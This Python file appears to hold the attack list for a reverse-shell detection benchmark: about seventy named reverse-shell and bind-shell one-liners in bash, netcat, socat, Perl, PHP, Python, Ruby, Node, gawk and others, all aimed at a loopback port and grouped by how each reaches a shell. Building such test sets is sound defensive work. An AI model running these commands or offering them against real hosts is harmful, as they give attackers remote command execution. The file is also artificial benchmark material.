"""Every way to a shell that the benchmark runs: name, class, how it is talked to, what is executed.

P is the port on loopback; Q a second one. Talked to: `tcp` the shell connects and reads commands line by line; `bind` it
listens; `tls`, `udp`; `two` commands over P, answers over Q; `first` a word must be sent before; `poll` HTTP; `base64`,
`hex` and `tls-base64` commands and answers are encoded so; `web` a web server to which the command is posted.
Classes: A a standard stream is the connection, B a relay with pipes, pseudo-terminals or unix sockets, C sibling pipelines
closed by a fifo, D command by command, N not of the design's list: no rule was made with them in view.
"""

PYTHON_CONNECT = "import socket,os,subprocess,pty;s=socket.socket();s.connect(('127.0.0.1',P));"
PERL_CONNECT = (
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
    "connect(S,sockaddr_in(P,inet_aton('127.0.0.1'))) or die;"
)


def python(text):
    return f'python3 -c "{PYTHON_CONNECT}{text}"'


ATTACKS = [
    ("bash-dev-tcp", "A", "tcp", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/P 0>&1'"),
    ("bash-fd-196", "A", "tcp", "bash -c '0<&196;exec 196<>/dev/tcp/127.0.0.1/P; sh <&196 >&196 2>&196'"),
    ("bash-fd-5", "A", "tcp", "bash -c 'exec 5<>/dev/tcp/127.0.0.1/P; cat <&5 | while read line; do $line 2>&5 >&5; done'"),
    ("bash-dev-udp", "A", "udp", "bash -c 'sh -i >& /dev/udp/127.0.0.1/P 0>&1'"),
    ("setsid-nohup", "A", "tcp", "nohup setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/P 0>&1' >/dev/null 2>&1 & sleep 8"),
    ("bash-read-loop", "A", "tcp", "bash -c 'exec 5<>/dev/tcp/127.0.0.1/P; while read -r c <&5; do sh -c \"$c\" <&5 >&5 2>&5; done'"),
    ("bash-builtin-loop", "A", "tcp", "bash -c 'exec 5<>/dev/tcp/127.0.0.1/P; while read -r c <&5; do eval \"$c\" >&5 2>&5; done'"),
    ("zsh-ztcp", "A", "tcp", "zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 P && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
    ("ksh-dev-tcp", "A", "tcp", "ksh -c 'ksh >/dev/tcp/127.0.0.1/P 2>&1 <&1'"),
    ("nc-e", "A", "tcp", "nc.traditional 127.0.0.1 P -e /bin/sh"),
    ("nc-c", "A", "tcp", "nc.traditional 127.0.0.1 P -c /bin/bash"),
    ("busybox-nc-e", "A", "tcp", "busybox nc 127.0.0.1 P -e /bin/sh"),
    ("perl-dup-exec", "A", "tcp", f"perl -e \"{PERL_CONNECT}open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');\""),
    ("perl-fdopen-system", "A", "tcp", "perl -MIO -e '$c=new IO::Socket::INET(\"127.0.0.1:P\");STDIN->fdopen($c,\"r\");$~->fdopen($c,\"w\");system $_ while <>;'"),
    ("php-exec-fd", "A", "tcp", "php -r '$s=fsockopen(\"127.0.0.1\",P);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("php-proc-open-socket", "A", "tcp", "php -r '$s=fsockopen(\"127.0.0.1\",P);$p=proc_open(\"/bin/sh\",[$s,$s,$s],$x);proc_close($p);'"),
    ("php-popen-fd", "A", "tcp", "php -r '$s=fsockopen(\"127.0.0.1\",P);popen(\"/bin/sh <&3 >&3 2>&3\",\"r\");sleep(9);'"),
    ("php-passthru-fd", "A", "tcp", "php -r '$s=fsockopen(\"127.0.0.1\",P);passthru(\"/bin/sh <&3 >&3 2>&3\");'"),
    ("python-dup2-call", "A", "tcp", python("[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(['/bin/sh','-i'])")),
    ("python-execv", "A", "tcp", python("[os.dup2(s.fileno(),n) for n in (0,1,2)];os.execv('/bin/sh',['sh'])")),
    ("python-pty", "A", "tcp", python("[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')")),
    ("ruby-spawn", "A", "tcp", "ruby -rsocket -e 's=TCPSocket.new(\"127.0.0.1\",P);Process.wait spawn(\"/bin/sh\",[:in,:out,:err]=>s)'"),
    ("ruby-exec-fd", "A", "tcp", "ruby -rsocket -e 'f=TCPSocket.open(\"127.0.0.1\",P).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f),f=>f'"),
    ("tclsh-exec", "A", "tcp", "echo 'set s [socket 127.0.0.1 P];exec /bin/sh <@$s >@$s 2>@$s' | tclsh"),
    ("node-spawn-fd", "A", "tcp", "node -e 'const s=require(\"net\").connect(P,\"127.0.0.1\",()=>require(\"child_process\").spawn(\"/bin/sh\",[],{stdio:[s,s,s]}))'"),
    ("c-dup2", "A", "tcp", "/opt/shells/programs dup2 P"),
    ("c-memfd", "A", "tcp", "/opt/shells/programs memfd P"),
    ("c-daemon", "A", "tcp", "/opt/shells/programs daemon P; sleep 8"),
    ("c-staged", "A", "first", "/opt/shells/programs staged P"),
    ("renamed-shell", "A", "tcp", "bash -c '/opt/shells/worker >& /dev/tcp/127.0.0.1/P 0>&1'"),
    ("script-pty", "A", "tcp", "bash -c 'exec 5<>/dev/tcp/127.0.0.1/P; script -qc /bin/bash /dev/null <&5 >&5 2>&5'"),
    ("nc-bind", "A", "bind", "nc.traditional -l -p P -e /bin/sh"),
    ("c-bind", "A", "bind", "/opt/shells/programs bind P"),
    ("python-bind", "A", "bind", "python3 -c \"import socket,os;l=socket.socket();l.setsockopt(1,2,1);l.bind(('127.0.0.1',P));l.listen(1);s,a=l.accept();[os.dup2(s.fileno(),n) for n in (0,1,2)];os.execv('/bin/sh',['sh'])\""),
    ("ncat-e", "B", "tcp", "ncat 127.0.0.1 P -e /bin/sh"),
    ("ncat-sh-exec", "B", "tcp", "ncat 127.0.0.1 P --sh-exec 'bash'"),
    ("ncat-ssl", "B", "tls", "ncat --ssl 127.0.0.1 P -e /bin/sh"),
    ("ncat-bind", "B", "bind", "ncat -l 127.0.0.1 P -e /bin/sh"),
    ("socat-exec", "B", "tcp", "socat TCP:127.0.0.1:P EXEC:/bin/sh"),
    ("socat-pipes", "B", "tcp", "socat TCP:127.0.0.1:P EXEC:/bin/sh,pipes"),
    ("socat-pty", "B", "tcp", "socat TCP:127.0.0.1:P EXEC:'bash -li',pty,stderr,setsid,sigint,sane"),
    ("socat-bind", "B", "bind", "socat TCP-LISTEN:P,bind=127.0.0.1,reuseaddr EXEC:/bin/sh"),
    ("socat-openssl", "B", "tls", "socat OPENSSL:127.0.0.1:P,verify=0 EXEC:/bin/sh"),
    ("python-popen-pipes", "B", "tcp", python("p=subprocess.Popen(['/bin/sh'],stdin=-1,stdout=-1,stderr=-2,bufsize=0);import threading;threading.Thread(target=lambda:[s.send(x) for x in iter(lambda:os.read(p.stdout.fileno(),999),b'')],daemon=True).start();[p.stdin.write(x) for x in iter(lambda:s.recv(999),b'')]")),
    ("python-pty-relay", "B", "tcp", python("import select\npid,f=pty.fork()\nif pid==0: os.execv('/bin/sh',['sh'])\nwhile True:\n r=select.select([s,f],[],[])[0]\n for x in r:\n  d=s.recv(999) if x is s else os.read(f,999)\n  if not d: os._exit(0)\n  os.write(f,d) if x is s else s.send(d)")),
    ("php-proc-open-pipes", "B", "tcp", "php -r '$s=fsockopen(\"127.0.0.1\",P);$p=proc_open(\"/bin/sh -i\",[[\"pipe\",\"r\"],[\"pipe\",\"w\"],[\"pipe\",\"w\"]],$q);foreach($q as $x)stream_set_blocking($x,false);stream_set_blocking($s,false);while(!feof($s)){$r=[$s,$q[1],$q[2]];$n=null;stream_select($r,$n,$n,null);if(in_array($s,$r))fwrite($q[0],fread($s,1400));foreach([1,2] as $i)if(in_array($q[$i],$r))fwrite($s,fread($q[$i],1400));}'"),
    ("node-spawn-pipe", "B", "tcp", "node -e 'const s=require(\"net\").connect(P,\"127.0.0.1\",()=>{const p=require(\"child_process\").spawn(\"/bin/sh\",[]);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s)})'"),
    ("c-socketpair", "B", "tcp", "/opt/shells/programs socketpair P"),
    ("c-late-connect", "B", "tcp", "/opt/shells/programs late P"),
    ("nc-mkfifo", "C", "tcp", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc.traditional 127.0.0.1 P >/tmp/f"),
    ("telnet-mkfifo", "C", "tcp", "mkfifo /tmp/f; telnet 127.0.0.1 P </tmp/f | /bin/sh >/tmp/f 2>&1"),
    ("telnet-two-ports", "C", "two", "(sleep 9 | telnet 127.0.0.1 P) | /bin/sh 2>&1 | telnet 127.0.0.1 Q"),
    ("openssl-mkfifo", "C", "tls", "mkfifo /tmp/f; /bin/sh -i </tmp/f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:P >/tmp/f 2>/dev/null"),
    ("curl-telnet", "C", "tcp", "mkfifo /tmp/f; curl -sN telnet://127.0.0.1:P </tmp/f | /bin/sh -i >/tmp/f 2>&1"),
    ("perl-backtick", "D", "tcp", f"perl -e \"{PERL_CONNECT}select(S);\\$|=1;while(<S>){{print S \\`\\$_\\`}}\""),
    ("php-shell-exec", "D", "tcp", "php -r '$s=fsockopen(\"127.0.0.1\",P);while(($c=fgets($s))!==false)fwrite($s,shell_exec($c));'"),
    ("python-getoutput", "D", "tcp", python("[s.send(subprocess.getoutput(l).encode()+b'\\n') for l in s.makefile()]")),
    ("ruby-popen", "D", "tcp", "ruby -rsocket -e 's=TCPSocket.new(\"127.0.0.1\",P);while(c=s.gets);IO.popen(c,\"r\"){|i|s.print i.read};end'"),
    ("gawk-inet", "D", "tcp", "gawk 'BEGIN{s=\"/inet/tcp/0/127.0.0.1/P\";while((s|&getline c)>0){while((c|&getline r)>0)print r|&s;close(c)}}'"),
    ("node-exec", "D", "tcp", "node -e 'const s=require(\"net\").connect(P,\"127.0.0.1\");s.on(\"data\",d=>require(\"child_process\").exec(d.toString(),(e,o)=>s.write(o)))'"),
    ("tcl-open", "D", "tcp", "echo 'set s [socket 127.0.0.1 P];while {[gets $s c]>=0} {set p [open \"|$c\"];puts -nonewline $s [read $p];flush $s;catch {close $p}}' | tclsh"),
    ("python-udp", "D", "udp", "python3 -c \"import socket,subprocess;s=socket.socket(2,2);s.sendto(b'hello',('127.0.0.1',P))\nwhile True: s.sendto(subprocess.getoutput(s.recv(999).decode()).encode(),('127.0.0.1',P))\""),
    ("curl-polling", "D", "poll", "while :; do c=$(curl -s http://127.0.0.1:P/job); [ -z \"$c\" ] || sh -c \"$c\" | curl -s --data-binary @- http://127.0.0.1:P/done; sleep 0.3; done"),
    ("php-webshell", "D", "web", "php -S 127.0.0.1:P -t /opt/shells/web"),
    ("python-open-base64", "N", "base64", python("import base64\nfor l in s.makefile(): s.send(base64.b64encode(subprocess.getoutput(base64.b64decode(l).decode()).encode())+b'\\n')")),
    ("perl-hex", "N", "hex", f"perl -e \"{PERL_CONNECT}select(S);\\$|=1;while(<S>){{chomp;\\$c=pack('H*',\\$_);\\$o=\\`\\$c\\`;print S unpack('H*',\\$o).qq(\\n)}}\""),
    ("python-tls-relay", "N", "tls", "python3 -c \"import socket,ssl,subprocess;c=ssl._create_unverified_context();s=c.wrap_socket(socket.create_connection(('127.0.0.1',P)))\nwhile True:\n d=s.recv(999)\n if not d: break\n s.send(subprocess.getoutput(d.decode()).encode()+b'\\n')\""),
    ("sh-staged-file", "N", "tcp", python("\nfor l in s.makefile():\n open('/tmp/job','w').write(l)\n s.send(subprocess.getoutput('sh /tmp/job').encode()+b'\\n')")),
    ("perl-open3", "N", "tcp", f"perl -MIPC::Open3 -e \"{PERL_CONNECT}\\$p=open3('<&S','>&S','>&S','/bin/sh');waitpid(\\$p,0)\""),
    ("ruby-open3", "N", "tcp", "ruby -rsocket -ropen3 -e 's=TCPSocket.new(\"127.0.0.1\",P);Open3.popen2e(\"/bin/sh\"){|i,o,t|Thread.new{while(d=o.readpartial(999));s.write d;end};while(d=s.readpartial(999));i.write d;i.flush;end}'"),
    ("busybox-sh-fifo", "N", "tcp", "mkfifo /tmp/a; busybox ash </tmp/a 2>&1 | busybox nc 127.0.0.1 P >/tmp/a"),
    ("python-asyncio", "N", "tcp", "python3 -c \"import asyncio\nasync def m():\n r,w=await asyncio.open_connection('127.0.0.1',P)\n while True:\n  l=await r.readline()\n  if not l: break\n  p=await asyncio.create_subprocess_shell(l.decode(),stdout=-1,stderr=-2)\n  w.write((await p.communicate())[0]);await w.drain()\nasyncio.run(m())\""),
    ("ssh-less-socat-unix", "N", "tcp", "socat UNIX-LISTEN:/tmp/s EXEC:/bin/sh & sleep 0.5; socat TCP:127.0.0.1:P UNIX:/tmp/s"),
]
